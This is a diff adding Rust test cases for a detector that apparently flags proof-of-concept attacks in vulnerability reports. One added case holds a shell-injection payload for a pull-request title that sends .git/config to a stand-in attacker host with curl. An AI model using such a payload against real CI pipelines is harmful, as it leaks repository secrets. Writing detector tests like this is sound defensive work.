@@ -343,6 +343,16 @@ mod tests {
         // A block that opens with a comment naming its source file.
         let t = "Here it goes wrong:\n\n```\n/* lib/str/length.c */\nsize_t length_max(const char *s, size_t max)\n{\n  for (i = 0; i < max; ++i) if (s[i] == 0) break;\n}\n```\n";
         assert!(!poc(t));
+        // A first line naming the source file, without a comment marker.
+        let t = "The server's choice is trusted:\n\n```\nlib/core/session.c:\n...\nif (s->method == METHOD_FIPS)\n    fips_decrypt(s->ctx, data, len);\n...\n```\n";
+        assert!(!poc(t), "{:?}", run(t).poc);
+        // A workflow step that uses the event's text; a command inside it is the
+        // project's, not the reporter's.
+        let t = "The issue body reaches the script:\n\n```\n    - name: Commit\n      run: sh ./build.sh\n      env:\n        BODY: ${{ github.event.issue.body }}\n```\n";
+        assert!(!poc(t), "{:?}", run(t).poc);
+        // A shell-injection payload closing a quote, in prose.
+        let t = "Open a pull request with the title `x\"; curl -d @.git/config http://evil.example #` and the step runs it.";
+        assert!(poc(t), "{:?}", run(t).poc);
         // A CI workflow is the project's configuration.
         let t = "The workflow runs the pull request's code with secrets:\n\n```\non: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n```\n";
         assert!(!poc(t));
